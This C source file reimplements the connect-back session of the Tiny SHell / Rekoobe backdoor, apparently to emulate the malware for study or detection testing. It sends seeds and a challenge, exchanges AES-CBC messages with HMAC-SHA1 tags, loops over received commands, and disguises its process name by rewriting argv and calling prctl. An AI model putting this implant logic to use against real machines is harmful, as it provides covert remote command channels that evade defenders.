/*
 * AN0401: the session of Tiny SHell and of what descends from it (Rekoobe), from connect-back to commands: two seeds, a
 * challenge, then messages under AES-128-CBC with an HMAC-SHA1 each.
 * usage: tiny-shell ADDRESS PORT [DISGUISE]   (DISGUISE: what its arguments are overwritten with)
 */
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>

#include "aes.h"
#include "answers.h"
#include "link.h"
#include "sha1.h"

struct way {
	struct aes aes;
	uint8_t iv[AES_BLOCK];
	uint8_t mac[SHA1_LEN];
	uint32_t counter;
};

static uint8_t wire[ANSWER_MAX + 64];

static void begin(struct way *w, const uint8_t seed[SHA1_LEN])
{
	sha1(emulation_key, 32, seed, SHA1_LEN, w->mac);
	aes_begin(&w->aes, w->mac, 128);
	memcpy(w->iv, seed, AES_BLOCK);
	w->counter = 0;
}

static size_t padded(size_t len)
{
	return (len + 2 + AES_BLOCK - 1) / AES_BLOCK * AES_BLOCK;
}

/* Over what is in `wire`, which has room for the counter behind it. */
static void digest(struct way *w, size_t len, uint8_t out[SHA1_LEN])
{
	for (int i = 0; i < 4; i++)
		wire[len + (size_t)i] = (uint8_t)(w->counter >> (24 - 8 * i));
	w->counter++;
	hmac_sha1(w->mac, SHA1_LEN, wire, len + 4, out);
}

static void say(int fd, struct way *w, const void *text, size_t len)
{
	uint8_t mac[SHA1_LEN];
	size_t total = padded(len);

	memset(wire, 0, total);
	wire[0] = (uint8_t)(len >> 8);
	wire[1] = (uint8_t)len;
	memcpy(wire + 2, text, len);
	for (size_t at = 0; at < total; at += AES_BLOCK) {
		for (int i = 0; i < AES_BLOCK; i++)
			wire[at + (size_t)i] ^= w->iv[i];
		aes_encrypt(&w->aes, wire + at);
		memcpy(w->iv, wire + at, AES_BLOCK);
	}
	digest(w, total, mac);
	memcpy(wire + total, mac, SHA1_LEN);
	link_send(fd, wire, total + SHA1_LEN);
}

static void open_block(struct way *w, size_t at, uint8_t out[AES_BLOCK])
{
	memcpy(out, wire + at, AES_BLOCK);
	aes_decrypt(&w->aes, out);
	for (int i = 0; i < AES_BLOCK; i++)
		out[i] ^= w->iv[i];
	memcpy(w->iv, wire + at, AES_BLOCK);
}

static int hear(int fd, struct way *w, char text[ANSWER_MAX])
{
	uint8_t plain[ANSWER_MAX + AES_BLOCK], mac[SHA1_LEN], theirs[SHA1_LEN];
	size_t len, total;

	if (!link_receive(fd, wire, AES_BLOCK))
		return -1;
	open_block(w, 0, plain);
	len = (size_t)plain[0] << 8 | plain[1];
	total = padded(len);
	if (total > ANSWER_MAX || !link_receive(fd, wire + AES_BLOCK, total - AES_BLOCK) || !link_receive(fd, theirs, SHA1_LEN))
		return -1;
	for (size_t at = AES_BLOCK; at < total; at += AES_BLOCK)
		open_block(w, at, plain + at);
	digest(w, total, mac);
	if (memcmp(mac, theirs, SHA1_LEN) != 0)
		return -1;
	memcpy(text, plain + 2, len);
	text[len] = 0;
	return (int)len;
}

static void disguise(int argc, char **argv)
{
	static char as[64];
	char *end = argv[argc - 1] + strlen(argv[argc - 1]);

	strncpy(as, argv[3], sizeof(as) - 1);
	memset(argv[0], 0, (size_t)(end - argv[0]));
	strncpy(argv[0], as, (size_t)(end - argv[0]));
	prctl(PR_SET_NAME, as);
}

int main(int argc, char **argv)
{
	static const uint8_t challenge[16] = { 0x58, 0x90, 0xae, 0x86, 0xf1, 0xb9, 0x1c, 0xf6,
					       0x29, 0x83, 0x95, 0x71, 0x1d, 0xde, 0x58, 0x0d };
	static char text[ANSWER_MAX];
	static struct way out, in;
	uint8_t seeds[2 * SHA1_LEN];
	size_t len;
	int fd;

	if (argc < 3)
		return 64;
	fd = link_open(argv[1], argv[2], SOCK_STREAM);
	if (argc > 3)
		disguise(argc, argv);
	link_random(seeds, sizeof(seeds));
	begin(&out, seeds);
	begin(&in, seeds + SHA1_LEN);
	link_send(fd, seeds, sizeof(seeds));
	say(fd, &out, challenge, sizeof(challenge));
	len = answer("uname -a", text);
	say(fd, &out, text, len);
	while (hear(fd, &in, text) >= 0) {
		char command[256];

		strncpy(command, text, sizeof(command) - 1);
		command[sizeof(command) - 1] = 0;
		len = answer(command, text);
		if (len == 0)
			return 0;
		say(fd, &out, text, len);
	}
	return 1;
}
